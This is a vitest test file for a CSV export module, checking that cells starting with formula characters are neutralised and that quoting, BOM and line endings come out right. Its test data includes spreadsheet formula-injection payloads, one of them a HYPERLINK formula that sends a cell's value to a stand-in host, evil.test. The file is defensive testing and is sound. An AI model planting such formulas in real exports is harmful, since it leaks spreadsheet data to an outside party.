import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { rowsToCsv, toCsv, type CsvColumn } from './csv';

/** The cells a spreadsheet would see (BOM removed, parsed back). */
const cells = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data;

describe('CSV writer', () => {
  it('neutralises every formula prefix: = + - @ tab CR LF', () => {
    const attacks = [
      '=HYPERLINK("http://x.test","click")',
      '+1+2',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
    ];
    const out = cells(rowsToCsv([['head'], ...attacks.map((a) => [a])]));
    expect(out.slice(1).map((r) => r[0])).toEqual(attacks.map((a) => `'${a}`));
  });

  it('neutralises a formula followed by a line break (papaparse’s default pattern lets it through)', () => {
    const v = '=HYPERLINK("http://evil.test?"&A1,"open")\nsecond line';
    expect(cells(rowsToCsv([[v]]))[0][0]).toBe(`'${v}`);
  });

  it('leaves ordinary text, text with a formula sign later on, and numbers alone', () => {
    const out = cells(rowsToCsv([['a=b', 'Plumbing - repair', 42, -5, 0, 'x@y.test']]));
    expect(out[0]).toEqual(['a=b', 'Plumbing - repair', '42', '-5', '0', 'x@y.test']);
  });

  it('quotes commas, quotes and line breaks so cells parse back unchanged; null and undefined are empty', () => {
    const out = cells(rowsToCsv([['Fix, "urgent"\nsecond line', null, undefined, 'é ü 漢']]));
    expect(out[0]).toEqual(['Fix, "urgent"\nsecond line', '', '', 'é ü 漢']);
  });

  it('writes a BOM and CRLF line ends; toCsv puts the headers first', () => {
    type Row = { name: string; n: number };
    const cols: CsvColumn<Row>[] = [
      { header: 'Name', value: (r) => r.name },
      { header: 'Count', value: (r) => r.n },
    ];
    const text = toCsv(cols, [{ name: '@home', n: 3 }]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toBe('\uFEFFName,Count\r\n"\'@home",3');
    expect(toCsv(cols, [], { bom: false })).toBe('Name,Count');
  });
});
